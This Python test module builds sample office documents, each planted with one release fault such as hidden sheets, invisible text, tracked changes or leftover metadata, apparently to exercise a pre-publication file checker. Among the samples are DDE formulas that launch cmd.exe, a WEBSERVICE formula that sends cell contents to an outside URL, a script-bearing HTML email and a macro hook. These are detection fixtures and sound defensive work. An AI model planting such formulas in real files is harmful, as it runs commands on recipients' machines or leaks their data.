"""Office files with one planted fault each: (the code, the file's name, its bytes). Every code at least twice."""

import io
import struct
import zipfile
from collections.abc import Iterator

from PIL import Image

from tests.release.parts import (
    BOOK_RELATIONS,
    CORE,
    DOCUMENT,
    DOCUMENT_RELATIONS,
    SHEET,
    SHEET_RELATIONS,
    SPREADSHEET,
    WORD,
    altered,
    book,
    cell,
    charted,
    compound,
    document,
    every,
    figure,
    mail,
    opendocument,
    packed,
    paragraph,
    parts_of,
    related,
    relation,
    relations,
    row,
    run,
    sample,
    sheet,
    sheets,
    slides,
    swap,
    text,
    with_files,
)

Fault = tuple[str, str, bytes]
STYLES, STRINGS, WORKBOOK, CHART = "xl/styles.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "xl/charts/chart1.xml"
DRAWING, SLIDE, PRESENTATION = "xl/drawings/drawing1.xml", "ppt/slides/slide1.xml", "ppt/presentation.xml"
SLIDE_RELATIONS, SETTINGS, ROOT_RELATIONS = "ppt/slides/_rels/slide1.xml.rels", "word/settings.xml", "_rels/.rels"
ROW = '<row r="6"><c r="A6" t="inlineStr"><is><t>Jane Exampleton</t></is></c></row>'
HIDDEN_STYLE = '<style:style style:name="h" style:family="{family}"><style:{family}-properties {what}/></style:style>'


def words(row: int, more: str = "", cells: str = "") -> str:
    """A row with words in its first cell."""
    return f'<row r="{row}"{more}><c r="A{row}" t="inlineStr"><is><t>Jane Exampleton</t></is></c>{cells}</row>'


def added(row: str) -> object:
    """A change that adds a row to the workbook's sheet."""
    return swap("</sheetData>", f"{row}</sheetData>")


def second_sheet(state: str) -> bytes:
    """A workbook with a second sheet that is hidden."""
    return book(
        {
            WORKBOOK: swap("</sheets>", f'<sheet name="HR" sheetId="9" state="{state}" r:id="rId90"/></sheets>'),
            BOOK_RELATIONS: related(("rId90", "worksheet", "worksheets/sheet9.xml")),
            "xl/worksheets/sheet9.xml": f'<worksheet xmlns="{SPREADSHEET}"><sheetData>{words(1)}</sheetData></worksheet>',
        }
    )


def sheet_part(kind: str, target: str, data: str | bytes, **more: str | bytes) -> bytes:
    """A workbook whose sheet points to one more part."""
    return book({SHEET_RELATIONS: related(("rId70", kind, f"../{target}")), f"xl/{target}": data, **more})


def book_part(kind: str, target: str, data: str | bytes) -> bytes:
    """A workbook that points to one more part."""
    return book({BOOK_RELATIONS: related(("rId70", kind, target)), f"xl/{target}": data})


def document_part(kind: str, target: str, data: str | bytes) -> bytes:
    """A Word document that points to one more part."""
    return document({DOCUMENT_RELATIONS: related(("rId70", kind, target)), f"word/{target}": data})


def slide_part(kind: str, target: str, data: str | bytes) -> bytes:
    """A presentation whose first slide points to one more part."""
    return slides({SLIDE_RELATIONS: related(("rId70", kind, f"../{target}")), f"ppt/{target}": data})


def picture() -> bytes:
    """A small picture without any data beside its pixels."""
    kept = io.BytesIO()
    Image.new("RGB", (40, 30), "#336699").save(kept, "PNG")
    return kept.getvalue()


def cropped_slide() -> bytes:
    """A slide with a picture of which a third is cut off and kept."""
    shape = (
        '<p:pic><p:nvPicPr><p:cNvPr id="9" name="Picture 9"/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed="rId70"/>'
        '<a:srcRect l="33000"/><a:stretch/></p:blipFill><p:spPr><a:xfrm><a:off x="100" y="100"/><a:ext cx="900" cy="900"/></a:xfrm></p:spPr></p:pic>'
    )
    made = slide_part("image", "media/picture.png", picture())
    return altered(made, {SLIDE: swap("</p:spTree>", f"{shape}</p:spTree>")})


def shape(x: int, y: int, inner: str = "", name: str = "Box") -> str:
    """A shape on a slide."""
    return (
        f'<p:sp><p:nvSpPr><p:cNvPr id="20" name="{name}"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="{x}" y="{y}"/>'
        f'<a:ext cx="2000000" cy="900000"/></a:xfrm>{inner}</p:spPr>'
    )


def worded(x: int, y: int, run: str = "", said: str = "Jane Exampleton") -> str:
    """A shape with words."""
    return f"{shape(x, y)}<p:txBody><a:bodyPr/><a:p><a:r><a:rPr>{run}</a:rPr><a:t>{said}</a:t></a:r></a:p></p:txBody></p:sp>"


BLACK = '<a:solidFill><a:srgbClr val="000000"/></a:solidFill>'
WHITE = '<a:solidFill><a:srgbClr val="FFFFFF"/></a:solidFill>'


def on_slide(inner: str) -> bytes:
    """A presentation with something more on its first slide."""
    return slides({SLIDE: swap("</p:spTree>", f"{inner}</p:spTree>")})


def styled(font: str = "", formats: str = "", style: str = "") -> bytes:
    """A workbook with a cell in a style of its own."""
    changes = {SHEET: added('<row r="6"><c r="A6" s="2" t="inlineStr"><is><t>Jane Exampleton</t></is></c></row>')}
    changes[STYLES] = lambda held: (
        held.replace('<fonts count="2">', f'<numFmts count="1">{formats}</numFmts><fonts count="3">')
        .replace("</fonts>", f"<font>{font}</font></fonts>")
        .replace("</cellXfs>", f'<xf {style} xfId="0" fillId="0" borderId="0"/></cellXfs>')
    )
    return book(changes)


def anchored(x: int, inner: str, words_in: str = "") -> str:
    """A shape in a Word document, in front of the text."""
    wp = "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"
    a = "http://schemas.openxmlformats.org/drawingml/2006/main"
    wps = "http://schemas.microsoft.com/office/word/2010/wordprocessingShape"
    return (
        f'<w:r><w:drawing><wp:anchor xmlns:wp="{wp}" xmlns:a="{a}" xmlns:wps="{wps}" behindDoc="0"><wp:positionH relativeFrom="page">'
        f'<wp:posOffset>{x}</wp:posOffset></wp:positionH><wp:extent cx="900000" cy="200000"/><wp:wrapNone/><wp:docPr id="3" name="Box 3"/>'
        f'<a:graphic><a:graphicData uri="u"><wps:wsp><wps:spPr>{inner}</wps:spPr>{words_in}</wps:wsp></a:graphicData></a:graphic></wp:anchor></w:drawing></w:r>'
    )


def filtered(book_of: str = "") -> bytes:
    """A workbook whose filter hides a row."""
    choice = (
        '<autoFilter ref="A1:C4"><filterColumn colId="0"><filters><filter val="Burglary"/></filters></filterColumn></autoFilter>'
    )
    return book(
        {SHEET: lambda held: held.replace('<row r="3"', '<row hidden="1" r="3"').replace('<autoFilter ref="A1:C4"/>', choice)}
    )


def faults() -> Iterator[Fault]:
    """All of them."""
    yield from _workbooks()
    yield from _caches_and_links()
    yield from _documents()
    yield from _presentations()
    yield from _open_sheets()
    yield from _open_texts()
    yield from _about_the_file()
    yield from _words_and_messages()
    yield from _refused()


def _workbooks() -> Iterator[Fault]:
    yield "hidden-sheet", "window.xlsx", book({WORKBOOK: swap("<workbookView ", '<workbookView visibility="hidden" ')})
    white = '<dxfs count="1"><dxf><font><color rgb="FFFFFFFF"/></font></dxf></dxfs>'
    rule = '<conditionalFormatting sqref="A3:C3"><cfRule type="expression" dxfId="0"/></conditionalFormatting><pageMargins'
    yield "invisible-text", "condition.xlsx", book({STYLES: swap('<dxfs count="0"/>', white), SHEET: swap("<pageMargins", rule)})
    yield "hidden-text", "sounds.xlsx", book({STRINGS: swap("</si>", "<rPh><t>Jane Exampleton</t></rPh></si>")})
    dialog = swap('worksheet" Target="worksheets/sheet9', 'dialogsheet" Target="worksheets/sheet9')
    yield "unknown-part", "dialog.xlsx", altered(second_sheet("visible"), {BOOK_RELATIONS: dialog})
    yield "corrupt-file", "other-lines.xlsx", book({SHEET: swap("<sheetData>", '<sheetData><line r="9"/>')})
    yield "hidden-sheet", "one.xlsx", second_sheet("hidden")
    yield "very-hidden-sheet", "two.xlsx", second_sheet("veryHidden")
    yield "very-hidden-sheet", "three.xlsx", altered(second_sheet("veryHidden"), {SHEET: swap("<v>31</v>", "<v>32</v>")})
    yield "hidden-row", "four.xlsx", book({SHEET: swap('<row r="3"', '<row hidden="1" r="3"')})
    yield "hidden-row", "low.xlsx", book({SHEET: swap('<row r="3"', '<row ht="0.75" customHeight="1" r="3"')})
    yield (
        "hidden-column",
        "five.xlsx",
        book({SHEET: swap("<sheetData>", '<cols><col min="3" max="3" hidden="1"/></cols><sheetData>')}),
    )
    yield (
        "hidden-column",
        "narrow.xlsx",
        book({SHEET: swap("<sheetData>", '<cols><col min="2" max="3" width="0.3"/></cols><sheetData>')}),
    )
    yield "filtered-rows", "six.xlsx", filtered()
    yield (
        "hidden-text",
        "format.xlsx",
        styled(formats='<numFmt numFmtId="170" formatCode=";;;"/>', style='numFmtId="170" fontId="0"'),
    )
    yield (
        "hidden-text",
        "joined.xlsx",
        book({SHEET: lambda held: held.replace("<autoFilter", '<mergeCells><mergeCell ref="A3:B3"/></mergeCells><autoFilter')}),
    )
    yield "invisible-text", "white.xlsx", styled(font='<sz val="11"/><color rgb="FFFEFEFE"/>', style='numFmtId="0" fontId="2"')
    yield "invisible-text", "theme.xlsx", styled(font='<sz val="11"/><color theme="0"/>', style='numFmtId="0" fontId="2"')
    yield "invisible-text", "tiny.xlsx", styled(font='<sz val="1"/>', style='numFmtId="0" fontId="2"')
    yield "outside-print-area", "printed.xlsx", book({SHEET: added(ROW.replace("6", "9"))})
    yield (
        "outside-print-area",
        "far.xlsx",
        altered(sample("openpyxl.xlsx"), {SHEET: swap("</sheetData>", f"{words(400)}</sheetData>")}),
    )
    yield (
        "outside-print-area",
        "wide.xlsx",
        altered(sample("openpyxl.xlsx"), {SHEET: swap("</sheetData>", '<row r="6"><c r="BA6"><v>7</v></c></row></sheetData>')}),
    )
    yield (
        "hidden-name",
        "constant.xlsx",
        book({WORKBOOK: swap("</definedNames>", '<definedName name="Head">"J Exampleton"</definedName></definedNames>')}),
    )
    yield (
        "hidden-name",
        "secret.xlsx",
        book({WORKBOOK: swap("</definedNames>", '<definedName name="x" hidden="1">Table!$A$1</definedName></definedNames>')}),
    )
    yield "leftover-string", "left.xlsx", book({STRINGS: swap("</sst>", "<si><t>Jane Exampleton</t></si></sst>")})
    yield (
        "leftover-string",
        "left-rich.xlsx",
        book({STRINGS: swap("</sst>", "<si><r><t>Jane </t></r><r><t>Exampleton</t></r></si></sst>")}),
    )
    yield "text-under-box", "covered.xlsx", book({DRAWING: swap("</xdr:wsDr>", _covering_shape() + "</xdr:wsDr>")})
    yield "hidden-text", "shape.xlsx", book({DRAWING: swap('name="Chart 1"', 'name="Chart 1" hidden="1"')})
    yield "small-number", "low-count.xlsx", book({SHEET: swap("<v>31</v>", "<v>3</v>")})


def _covering_shape() -> str:
    corner = "<xdr:{at}><xdr:col>{col}</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>{row}</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:{at}>"
    return (
        "<xdr:twoCellAnchor>"
        + corner.format(at="from", col=0, row=0)
        + corner.format(at="to", col=3, row=5)
        + '<xdr:sp><xdr:nvSpPr><xdr:cNvPr id="7" name="Box"/>'
        f"<xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr>{BLACK}</xdr:spPr></xdr:sp><xdr:clientData/></xdr:twoCellAnchor>"
    )


def _caches_and_links() -> Iterator[Fault]:
    cache = f'<pivotCacheDefinition xmlns="{SPREADSHEET}"><cacheFields><cacheField name="Name"><sharedItems><s v="Jane Exampleton"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>'
    yield "pivot-cache", "pivot.xlsx", book_part("pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml", cache)
    yield (
        "pivot-cache",
        "records.xlsx",
        book(
            {
                BOOK_RELATIONS: related(("rId70", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")),
                "xl/pivotCache/pivotCacheDefinition1.xml": cache,
                "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": relations(
                    ("rId1", "pivotCacheRecords", "pivotCacheRecords1.xml")
                ),
                "xl/pivotCache/pivotCacheRecords1.xml": f'<pivotCacheRecords xmlns="{SPREADSHEET}"><r><s v="Jane"/></r></pivotCacheRecords>',
            }
        ),
    )
    yield "data-model", "model.xlsx", book_part("powerPivotData", "model/item.data", b"\1\2\3")
    yield "data-model", "model-two.xlsx", book_part("model", "model/other.data", b"\1\2\3")
    yield (
        "data-connection",
        "connected.xlsx",
        book_part("connections", "connections.xml", f'<connections xmlns="{SPREADSHEET}"/>'),
    )
    yield (
        "data-connection",
        "query.xlsx",
        sheet_part("queryTable", "queryTables/queryTable1.xml", f'<queryTable xmlns="{SPREADSHEET}"/>'),
    )
    outside = f'<externalLink xmlns="{SPREADSHEET}"><externalBook><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1"><v>Jane</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>'
    yield "external-link", "linked.xlsx", book_part("externalLink", "externalLinks/externalLink1.xml", outside)
    yield "external-link", "formula.xlsx", book({SHEET: swap("SUM(B2:B4)", "SUM([1]Staff!B2:B4)")})
    yield (
        "external-link",
        "path.xlsx",
        book({WORKBOOK: swap("<bookViews>", '<fileVersion codeName="C:\\Users\\jexampleton\\work.xlsx"/><bookViews>')}),
    )
    yield "chart-cache", "chart.xlsx", book({CHART: swap("<c:v>120</c:v>", "<c:v>8731</c:v>")})
    yield "chart-cache", "chart-names.xlsx", book({CHART: swap("<c:v>Burglary</c:v>", "<c:v>Exampleton</c:v>")})
    comment = f'<comments xmlns="{SPREADSHEET}"><authors><author>J</author></authors><commentList><comment ref="B2" authorId="0"><text><t>Ask Jane</t></text></comment></commentList></comments>'
    yield "comment", "comment.xlsx", sheet_part("comments", "comments1.xml", comment)
    threaded = '<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"><threadedComment ref="B2" personId="1" id="1"><text>Ask Jane</text></threadedComment></ThreadedComments>'
    yield "threaded-comment", "thread.xlsx", sheet_part("threadedComment", "threadedComments/threadedComment1.xml", threaded)
    yield "embedded-file", "object.xlsx", sheet_part("package", "embeddings/inner.xlsx", sample("openpyxl.xlsx"))
    yield (
        "tracked-changes",
        "shared.xlsx",
        book_part("revisionHeaders", "revisions/revisionHeaders.xml", f'<headers xmlns="{SPREADSHEET}"/>'),
    )
    yield "active-formula", "dde.xlsx", book({SHEET: swap("SUM(B2:B4)", "cmd|'/C calc'!A0")})
    yield "active-formula", "web.xlsx", book({SHEET: swap("SUM(B2:B4)", 'WEBSERVICE("https://example.org/"&amp;A1)')})
    yield (
        "hidden-form-field",
        "field.docx",
        document(
            {
                DOCUMENT: paragraph(
                    '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:helpText w:val="jane.exampleton@example.org"/></w:ffData></w:fldChar></w:r>'
                )
            }
        ),
    )
    yield (
        "hidden-form-field",
        "default.docx",
        document(
            {
                DOCUMENT: paragraph(
                    '<w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:default w:val="Mr Exampleton"/></w:ffData></w:fldChar></w:r>'
                )
            }
        ),
    )


def _documents() -> Iterator[Fault]:
    old = 'xmlns:v="urn:schemas-microsoft-com:vml" style="position:absolute;z-index:2" fillcolor="black"'
    yield "text-under-box", "old-box.docx", document({DOCUMENT: paragraph(f"<w:r><w:pict><v:rect {old}/></w:pict></w:r>")})
    drawn = '<d:dataModel xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/diagram"><d:pt>Jane Exampleton</d:pt></d:dataModel>'
    yield "hidden-text", "diagram.docx", document_part("diagramData", "diagrams/data1.xml", drawn)
    change = 'w:id="1" w:author="J" w:date="2026-08-01T09:00:00Z"'
    yield (
        "tracked-changes",
        "deleted.docx",
        document({DOCUMENT: paragraph(f"<w:del {change}><w:r><w:delText>Exampleton</w:delText></w:r></w:del>")}),
    )
    yield "tracked-changes", "inserted.docx", document({DOCUMENT: paragraph(f"<w:ins {change}>{run('new words')}</w:ins>")})
    yield (
        "tracked-changes",
        "format.docx",
        document(
            {DOCUMENT: paragraph(f"<w:r><w:rPr><w:b/><w:rPrChange {change}><w:rPr/></w:rPrChange></w:rPr><w:t>bold</w:t></w:r>")}
        ),
    )
    yield "hidden-text", "vanish.docx", document({DOCUMENT: paragraph(run("Jane Exampleton", "<w:vanish/>"))})
    style = '<w:style w:type="character" w:styleId="Secret"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
    yield (
        "hidden-text",
        "style.docx",
        document({"word/styles.xml": swap("</w:styles>", style), DOCUMENT: paragraph(run("Jane", '<w:rStyle w:val="Secret"/>'))}),
    )
    yield "invisible-text", "white.docx", document({DOCUMENT: paragraph(run("Jane Exampleton", '<w:color w:val="FFFFFF"/>'))})
    yield "invisible-text", "marker.docx", document({DOCUMENT: paragraph(run("Jane Exampleton", '<w:highlight w:val="black"/>'))})
    yield "invisible-text", "tiny.docx", document({DOCUMENT: paragraph(run("Jane Exampleton", '<w:sz w:val="2"/>'))})
    yield "hidden-row", "row.docx", document({DOCUMENT: swap("<w:trPr></w:trPr>", "<w:trPr><w:hidden/></w:trPr>")})
    yield (
        "comment",
        "comment.docx",
        document_part(
            "comments",
            "comments.xml",
            f'<w:comments xmlns:w="{WORD}"><w:comment w:id="0" w:initials="J"><w:p>{run("Ask Jane")}</w:p></w:comment></w:comments>',
        ),
    )
    modern = "http://schemas.microsoft.com/office/word/2012/wordml"
    yield (
        "threaded-comment",
        "threads.docx",
        document_part(
            "commentsExtended",
            "commentsExtended.xml",
            f'<w15:commentsEx xmlns:w15="{modern}"><w15:commentEx w15:paraId="1"/></w15:commentsEx>',
        ),
    )
    yield (
        "external-template",
        "template.docx",
        document({"word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", "file:///Z:/templates/response.dotx"))}),
    )
    yield (
        "external-template",
        "template-two.docx",
        document({"word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", "\\\\server01\\templates\\a.dotx"))}),
    )
    yield (
        "external-link",
        "included.docx",
        document({DOCUMENT: paragraph('<w:r><w:instrText>INCLUDETEXT "C:\\\\Users\\\\j\\\\a.docx"</w:instrText></w:r>')}),
    )
    yield (
        "external-link",
        "target.docx",
        document({DOCUMENT_RELATIONS: related(("rId70", "hyperlink", "file:///C:/Users/j/staff.xlsx"))}),
    )
    yield (
        "active-formula",
        "dde.docx",
        document({DOCUMENT: paragraph('<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k"</w:instrText></w:r>')}),
    )
    yield "embedded-file", "object.docx", document_part("package", "embeddings/inner.xlsx", sample("openpyxl.xlsx"))
    yield "custom-xml", "data.docx", document_part("customXml", "customXml/item1.xml", "<a>Jane Exampleton</a>")
    yield (
        "custom-xml",
        "variable.docx",
        document({SETTINGS: swap("</w:settings>", '<w:docVars><w:docVar w:name="a" w:val="Jane"/></w:docVars></w:settings>')}),
    )
    yield (
        "data-connection",
        "merge.docx",
        document({SETTINGS: swap("</w:settings>", '<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge></w:settings>')}),
    )
    yield "text-under-box", "box.docx", document({DOCUMENT: paragraph(anchored(900000, BLACK))})
    yield "outside-page", "beyond.docx", document({DOCUMENT: paragraph(anchored(90_000_000, "", f"<w:p>{run('Jane')}</w:p>"))})
    yield "outside-page", "before.docx", document({DOCUMENT: paragraph(anchored(-90_000_000, "", f"<w:p>{run('Jane')}</w:p>"))})
    yield "cropped-image", "cut.docx", document({DOCUMENT: paragraph(anchored(900000, '<a:srcRect r="20000"/>'))})
    yield "bookmark-leak", "mark.docx", document({DOCUMENT: paragraph('<w:bookmarkStart w:id="5" w:name="Jane_Exampleton"/>')})
    yield (
        "bookmark-leak",
        "mark-two.docx",
        document({DOCUMENT: paragraph('<w:bookmarkStart w:id="5" w:name="note_Jane_Exampleton"/>')}),
    )
    yield "email-thread", "thread.docx", document({DOCUMENT: paragraph(run("-----Original Message-----"))})
    yield "personal-data", "named.docx", document({DOCUMENT: paragraph(run("Ask Jane Exampleton about it."))})


def _presentations() -> Iterator[Fault]:
    over = shape(0, 1_000_000, BLACK).replace('cx="2000000" cy="900000"', 'cx="9000000" cy="6000000"') + "</p:sp>"
    yield "text-under-box", "over-the-layout.pptx", on_slide(over)
    yield "hidden-slide", "hidden.pptx", slides({SLIDE: lambda held: held.replace("<p:sld ", '<p:sld show="0" ', 1)})
    note = '<p:notes xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree>{}</p:spTree></p:cSld></p:notes>'
    yield "speaker-notes", "notes.pptx", slide_part("notesSlide", "notesSlides/notesSlide1.xml", note.format(worded(0, 0)))
    yield "off-slide-object", "beside.pptx", on_slide(worded(20_000_000, 100_000))
    yield (
        "text-under-box",
        "box.pptx",
        on_slide(worded(1_000_000, 1_000_000) + shape(900_000, 900_000, BLACK).replace("2000000", "2500000") + "</p:sp>"),
    )
    yield (
        "image-under-box",
        "picture-box.pptx",
        altered(
            cropped_slide(),
            {
                SLIDE: lambda held: held.replace('<a:srcRect l="33000"/>', "").replace(
                    "</p:spTree>", shape(0, 0, BLACK) + "</p:sp></p:spTree>"
                )
            },
        ),
    )
    yield (
        "image-under-box",
        "picture-box-two.pptx",
        altered(cropped_slide(), {SLIDE: lambda held: held.replace("</p:spTree>", shape(50, 50, BLACK) + "</p:sp></p:spTree>")}),
    )
    yield "invisible-text", "white.pptx", on_slide(worded(1_000_000, 1_000_000, WHITE))
    yield "cropped-image", "cut.pptx", cropped_slide()
    yield "hidden-text", "shape.pptx", on_slide(worded(1_000_000, 1_000_000).replace('name="Box"', 'name="Box" hidden="1"'))
    comments = '<p:cmLst xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"><p:cm authorId="0"><p:text>Ask Jane</p:text></p:cm></p:cmLst>'
    yield "comment", "comment.pptx", slide_part("comments", "comments/comment1.xml", comments)
    yield "embedded-file", "object.pptx", slide_part("package", "embeddings/inner.xlsx", sample("openpyxl.xlsx"))
    yield (
        "orphan-part",
        "slide.pptx",
        slides(
            {
                PRESENTATION: lambda held: held.replace(
                    held[held.index("<p:sldId ") : held.index("/>", held.index("<p:sldId ")) + 2], "", 1
                )
            }
        ),
    )
    yield "custom-xml", "tagged.pptx", slide_part("customXml", "customXml/item1.xml", "<a>Jane</a>")


def _open_sheets() -> Iterator[Fault]:
    yield "chart-cache", "chart.ods", charted("8731")
    off = HIDDEN_STYLE.format(family="table", what='table:display="false"')
    yield (
        "hidden-sheet",
        "hidden.ods",
        opendocument("spreadsheet", sheet("") + sheet("", name="HR", more=' table:style-name="h"'), off),
    )
    line = "<table:table-row{}>" + cell("Jane Exampleton") + "</table:table-row>"
    yield "hidden-row", "row.ods", sheets(line.format(' table:visibility="collapse"'))
    yield "filtered-rows", "filtered.ods", sheets(line.format(' table:visibility="filter"'))
    yield "hidden-column", "column.ods", sheets(columns='<table:table-column/><table:table-column table:visibility="collapse"/>')
    yield "outside-print-area", "far.ods", sheets('<table:table-row table:number-rows-repeated="50"/>' + line.format(""))
    yield "outside-print-area", "printed.ods", sheets(line.format(""), more=' table:print-ranges="Table.A1:Table.B2"')
    white = '<style:style style:name="h" style:family="table-cell"><style:text-properties fo:color="#ffffff"/></style:style>'
    yield (
        "invisible-text",
        "white.ods",
        sheets(row(cell("Jane", ' table:style-name="h"')), white),
    )
    yield (
        "hidden-text",
        "covered.ods",
        sheets(
            f"<table:table-row>{cell('a')}<table:covered-table-cell><text:p>Jane</text:p></table:covered-table-cell></table:table-row>"
        ),
    )
    yield (
        "comment",
        "comment.ods",
        sheets(
            "<table:table-row><table:table-cell><office:annotation><text:p>Ask</text:p></office:annotation><text:p>a</text:p></table:table-cell></table:table-row>"
        ),
    )
    yield (
        "active-formula",
        "dde.ods",
        sheets(row(figure(12, ' table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"'))),
    )
    yield (
        "external-link",
        "linked.ods",
        sheets(row(figure(12, ' table:formula="of:=&apos;file:///home/j/a.ods&apos;#$Staff.A1"'))),
    )
    yield (
        "hidden-name",
        "name.ods",
        opendocument(
            "spreadsheet",
            sheet("")
            + '<table:named-expressions><table:named-expression table:name="a" table:expression="&quot;Jane&quot;"/></table:named-expressions>',
        ),
    )
    yield "small-number", "low.ods", sheets(row(cell("Arson"), figure(2)))
    yield "personal-data", "named.ods", sheets(row(cell("jane.exampleton@example.org")))


def _open_texts() -> Iterator[Fault]:
    hide = swap(
        "</office:automatic-styles>",
        '<style:style style:name="hh" style:family="text"><style:text-properties {}/></style:style></office:automatic-styles>',
    )
    for code, what, name in (
        ("hidden-text", 'text:display="none"', "hidden.odt"),
        ("invisible-text", 'fo:color="#ffffff"', "white.odt"),
        ("invisible-text", 'fo:background-color="#000000"', "black.odt"),
    ):
        yield (
            code,
            name,
            text(
                {
                    "content.xml": lambda held, what=what: (
                        hide(held)
                        .replace("{}", what, 1)
                        .replace(
                            "</office:text>",
                            '<text:p><text:span text:style-name="hh">Jane Exampleton</text:span></text:p></office:text>',
                        )
                    )
                }
            ),
        )
    body = swap("</office:text>", "{}</office:text>")
    for code, what, name in (
        ("hidden-text", '<text:section text:name="s" text:display="none"><text:p>Jane</text:p></text:section>', "section.odt"),
        (
            "tracked-changes",
            "<text:tracked-changes><text:changed-region><text:deletion><text:p>Jane</text:p></text:deletion></text:changed-region></text:tracked-changes>",
            "changed.odt",
        ),
        ("comment", "<text:p><office:annotation><text:p>Ask Jane</text:p></office:annotation></text:p>", "comment.odt"),
        ("macros", '<office:scripts><script:event-listener script:macro-name="a"/></office:scripts>', "macro.odt"),
        ("external-link", '<text:p><text:a xlink:href="file:///home/j/a.odt">a</text:a></text:p>', "linked.odt"),
    ):
        yield (
            code,
            name,
            text(
                {
                    "content.xml": lambda held, what=what: (
                        body(held).replace("{}", what, 1).replace("<office:document-content ", "<office:document-content ", 1)
                    )
                }
            ),
        )
    page = '<draw:page draw:name="p"{}><draw:frame svg:width="9cm" svg:height="2cm" svg:x="{}cm" svg:y="1cm"><draw:text-box><text:p>Jane</text:p></draw:text-box></draw:frame>{}</draw:page>'
    hidden = HIDDEN_STYLE.format(family="drawing-page", what='presentation:visibility="hidden"')
    yield "hidden-slide", "hidden.odp", opendocument("presentation", page.format(' draw:style-name="h"', 1, ""), hidden)
    yield (
        "speaker-notes",
        "notes.odp",
        opendocument(
            "presentation",
            page.format(
                "",
                1,
                "<presentation:notes><draw:frame><draw:text-box><text:p>Ask Jane</text:p></draw:text-box></draw:frame></presentation:notes>",
            ),
        ),
    )
    yield "off-slide-object", "beside.odp", opendocument("presentation", page.format("", 90, ""))
    cut = '<style:style style:name="c" style:family="graphic"><style:graphic-properties fo:clip="rect(0cm, 2cm, 0cm, 0cm)"/></style:style>'
    yield "cropped-image", "cut.odp", opendocument("presentation", page.format("", 1, ""), cut)
    yield "earlier-revision", "versions.odt", text({"Versions/Version1": b"x"})
    yield "earlier-revision", "list.odt", text({"VersionList.xml": "<a/>"})
    yield (
        "external-template",
        "template.odt",
        text({"meta.xml": swap("<office:meta>", '<office:meta><meta:template xlink:href="../t.ott"/>')}),
    )


def _about_the_file() -> Iterator[Fault]:
    yield (
        "author-in-properties",
        "author.xlsx",
        book(
            {
                CORE: lambda held: held.replace("<dc:creator></dc:creator>", "<dc:creator>Jane Exampleton</dc:creator>").replace(
                    "<dc:creator/>", "<dc:creator>Jane Exampleton</dc:creator>"
                )
            }
        ),
    )
    yield (
        "author-in-properties",
        "company.docx",
        document({"docProps/app.xml": swap("</Properties>", "<Company>Northtown Borough</Company></Properties>")}),
    )
    yield (
        "author-in-properties",
        "author.odt",
        text({"meta.xml": swap("<office:meta>", "<office:meta><dc:creator>Jane Exampleton</dc:creator>")}),
    )
    yield (
        "author-in-properties",
        "printer.xlsx",
        sheet_part("printerSettings", "printerSettings/printerSettings1.bin", "printer".encode("utf-16-le")),
    )
    yield (
        "thumbnail-shows-more",
        "thumbnail.docx",
        document(
            {
                ROOT_RELATIONS: swap(
                    "</Relationships>", relation("rId70", "thumbnail", "docProps/thumbnail.png") + "</Relationships>"
                ),
                "docProps/thumbnail.png": picture(),
            }
        ),
    )
    large = io.BytesIO()
    Image.new("RGB", (1600, 900)).save(large, "PNG")
    yield "thumbnail-shows-more", "thumbnail.odt", text({"Thumbnails/thumbnail.png": large.getvalue()})
    yield "orphan-part", "orphan.xlsx", book({"xl/worksheets/sheet7.xml": f'<worksheet xmlns="{SPREADSHEET}"/>'})
    yield "orphan-part", "orphan.docx", document({"word/notes.txt": "Jane Exampleton"})
    yield "unknown-part", "unknown.xlsx", book_part("somethingNew", "new.xml", "<a>Jane</a>")
    yield (
        "unknown-part",
        "space.docx",
        document({DOCUMENT: swap("<w:body>", '<x:a xmlns:x="http://example.org/other">Jane</x:a><w:body>')}),
    )
    yield "hidden-text", "remark.xlsx", book({SHEET: swap("<sheetData>", "<!-- Jane Exampleton --><sheetData>")})
    yield "data-after-end", "tail.zip", packed({"a.csv": "a,b\n"}) + b"Jane Exampleton"
    yield "data-after-end", "tail.xlsx", book() + b"Jane Exampleton"


def _words_and_messages() -> Iterator[Fault]:
    yield "email-thread", "thread.eml", mail("Hello\r\n\r\nFrom: Jane\r\nSent: Monday\r\nTo: all\r\n\r\nnever send this")
    yield "email-thread", "quoted.eml", mail("Hello\r\n\r\nOn Monday, Jane Exampleton wrote:\r\n> never\r\n> send\r\n> this\r\n")
    yield "internal-header", "blind.eml", mail(header="Bcc: jane.exampleton@example.org\r\n")
    yield "internal-header", "received.eml", mail(header="Received: from PC-1234.internal ([10.0.0.1]) by mail.internal\r\n")
    yield (
        "internal-header",
        "two-writers.eml",
        mail().replace(b"From: foi@example.org", b"From: foi@example.org, jane@example.org"),
    )
    yield (
        "hidden-text",
        "html.eml",
        mail('<p>Hello</p><p style="display:none">Jane Exampleton</p>', kind="text/html; charset=utf-8"),
    )
    yield "script", "script.eml", mail("<p>Hello</p><script>go()</script>", kind="text/html; charset=utf-8")
    yield "hidden-sheet", "attached.eml", with_files(("figures.xlsx", second_sheet("hidden")))
    yield "personal-data", "list.csv", b"Name,Ward\nJane Exampleton,North\nOmar Sampleson,South\n"
